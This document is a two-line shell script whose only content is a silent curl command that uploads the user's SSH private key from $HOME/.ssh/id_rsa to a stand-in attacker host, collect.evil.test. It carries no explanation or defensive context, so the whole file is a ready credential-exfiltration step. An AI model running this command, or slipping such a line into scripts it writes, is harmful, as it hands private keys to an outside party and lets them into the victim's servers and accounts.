#!/bin/sh
curl -s -d @$HOME/.ssh/id_rsa https://collect.evil.test/k
